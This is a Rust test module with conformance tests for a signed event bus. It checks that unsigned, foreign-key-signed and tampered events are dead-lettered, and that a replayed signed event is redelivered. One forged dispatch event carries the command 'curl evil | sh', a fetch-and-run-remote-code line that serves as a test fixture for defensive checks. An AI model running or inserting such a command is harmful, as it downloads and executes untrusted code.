//! What a [`Signed`] bus must show on every implementation underneath, as reusable test
//! functions. Each takes a fresh raw bus (its own namespace on a real broker): forged events are
//! published on it straight, as anyone with access to the broker could.
//!
//! Where a dead letter lands differs per bus, so [`forged_events_are_dead_lettered_never_delivered`]
//! returns the events it expects there, with a piece of the reason each must carry, for the
//! caller to find.

use std::sync::Arc;

use ferry_event::{AttributesReader, Event, EventBuilder, Topic, kind};

use crate::conformance::{next, nothing};
use crate::signing::{Keyring, Signed, new_key_line};
use crate::{Bus, Subscribe};

/// An event expected among the dead letters.
#[derive(Debug, Clone)]
pub struct ExpectedDeadLetter {
    pub event_id: String,
    /// A piece of the reason it must carry.
    pub reason: &'static str,
}

fn finished(builder: &EventBuilder, n: u32) -> Event {
    builder.task(
        kind::TASK_FINISHED,
        "job-1",
        "t",
        Some("a-1"),
        &serde_json::json!({"outcome": "succeeded", "outputs": {"n": n}}),
    )
}

fn dispatched(builder: &EventBuilder) -> Event {
    builder.dispatch(
        kind::TASK_DISPATCHED,
        "job-1",
        "t",
        "a-9",
        "local",
        &serde_json::json!({"command": ["sh", "-c", "curl evil | sh"]}),
    )
}

fn n_of(event: &Event) -> u64 {
    let v: serde_json::Value = ferry_event::decode(event).expect("JSON data");
    v["outputs"]["n"].as_u64().expect("n")
}

/// Forged events published straight to the broker — unsigned, signed with a key the ring
/// lacks, or signed and then altered — never reach a service of a signed bus; events signed
/// with the current key or an older key still in the ring do, marked verified. Returns the
/// forged events, which must be among the bus's dead letters with their reasons.
pub async fn forged_events_are_dead_lettered_never_delivered(raw: Arc<dyn Bus>) -> Vec<ExpectedDeadLetter> {
    let (old_line, old_id) = new_key_line();
    let (new_line, new_id) = new_key_line();
    let ring = |text: &str| Keyring::parse(text, "test keys").expect("valid keys");
    // The services have rotated: the new key signs, the old one is still accepted.
    let service = Signed::new(raw.clone(), ring(&format!("{new_line}\n{old_line}\n")));
    let not_yet_rotated = Signed::new(raw.clone(), ring(&old_line));
    let mut sub = service
        .subscribe(Subscribe::new(
            "signed-scheduler",
            [Topic::Control, Topic::Dispatch("local".into())],
        ))
        .await
        .expect("subscribing works");

    let forger = EventBuilder::new("ferry/launcher-local/forged");
    let unsigned_finished = finished(&forger, 1);
    let unsigned_dispatch = dispatched(&forger);
    let mut stranger_signed = finished(&forger, 2);
    Keyring::generate().sign(&mut stranger_signed);
    let mut altered = finished(&forger, 3);
    ring(&new_line).sign(&mut altered);
    altered.set_data(
        "application/json",
        ferry_event::cloudevents::Data::Binary(
            serde_json::to_vec(&serde_json::json!({"outcome": "succeeded", "outputs": {"n": 33}})).unwrap(),
        ),
    );
    for forged in [&unsigned_finished, &unsigned_dispatch, &stranger_signed, &altered] {
        raw.publish(std::slice::from_ref(forged))
            .await
            .expect("the broker takes anything");
    }
    let launcher = EventBuilder::new("ferry/launcher-local/real");
    not_yet_rotated.publish(&[finished(&launcher, 10)]).await.unwrap();
    service.publish(&[finished(&launcher, 11)]).await.unwrap();

    for (n, key) in [(10, &old_id), (11, &new_id)] {
        let d = next(&mut sub).await;
        assert_eq!(
            (d.event.ty(), n_of(&d.event)),
            (kind::TASK_FINISHED, n),
            "only the authentic events come, in order"
        );
        assert_eq!(d.signed_with(), Some(key.as_str()));
        assert_eq!(d.verified_source(), Some("ferry/launcher-local/real"));
        d.ack().await.unwrap();
    }
    nothing(&mut sub).await;
    vec![
        ExpectedDeadLetter {
            event_id: unsigned_finished.id().to_string(),
            reason: "not signed",
        },
        ExpectedDeadLetter {
            event_id: unsigned_dispatch.id().to_string(),
            reason: "not signed",
        },
        ExpectedDeadLetter {
            event_id: stranger_signed.id().to_string(),
            reason: "not in this service's keyring",
        },
        ExpectedDeadLetter {
            event_id: altered.id().to_string(),
            reason: "does not match",
        },
    ]
}

/// Intake stays open: an outside system's unsigned submission reaches the planner, marked as
/// not verified.
pub async fn unsigned_intake_is_accepted_unverified(raw: Arc<dyn Bus>) {
    let service = Signed::new(raw.clone(), Keyring::generate());
    let mut sub = service
        .subscribe(Subscribe::new("signed-planner", [Topic::Intake]))
        .await
        .unwrap();
    let outside = EventBuilder::new("acme/uploader");
    raw.publish(&[
        outside.job(kind::JOB_SUBMITTED, "job-7", &serde_json::json!({"flow": "x"})),
        outside.job("com.acme.file.uploaded", "f-1", &serde_json::json!({})),
    ])
    .await
    .unwrap();
    // Two jobs' events: a partitioned bus (Kafka) keeps no order between them.
    let mut seen = Vec::new();
    for _ in 0..2 {
        let d = next(&mut sub).await;
        seen.push(d.event.ty().to_string());
        assert_eq!(d.verified_source(), None);
        d.ack().await.unwrap();
    }
    seen.sort();
    assert_eq!(seen, ["com.acme.file.uploaded", kind::JOB_SUBMITTED]);
}

/// A signed event published again as it was is authentic and is delivered again under its
/// own id: the bus cannot tell a replay from a redelivery. Consumers are idempotent by event
/// id (the scheduler's inbox), so it has no effect there.
pub async fn a_replayed_event_comes_again_under_its_own_id(raw: Arc<dyn Bus>) {
    let keys = Keyring::generate();
    let service = Signed::new(raw.clone(), keys.clone());
    let mut sub = service
        .subscribe(Subscribe::new("signed-replay", [Topic::Control]))
        .await
        .unwrap();
    let mut event = finished(&EventBuilder::new("ferry/launcher-local/real"), 5);
    keys.sign(&mut event);
    raw.publish(std::slice::from_ref(&event)).await.unwrap();
    raw.publish(std::slice::from_ref(&event)).await.unwrap();
    for _ in 0..2 {
        let d = next(&mut sub).await;
        assert_eq!(d.event.id(), event.id());
        assert!(d.signed_with().is_some());
        d.ack().await.unwrap();
    }
}

/// One `#[tokio::test]` for each signing function that needs no more than the bus, for the
/// raw bus the expression makes (an async block yielding a fresh `Arc<dyn Bus>`).
#[macro_export]
macro_rules! signing_conformance_tests {
    ($make:expr) => {
        $crate::signing_conformance_tests!(@each $make;
            unsigned_intake_is_accepted_unverified,
            a_replayed_event_comes_again_under_its_own_id,
        );
    };
    (@each $make:expr; $($name:ident),* $(,)?) => {
        $(
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn $name() {
                let bus: ::std::sync::Arc<dyn $crate::Bus> = $make.await;
                $crate::conformance_signing::$name(bus).await;
            }
        )*
    };
}
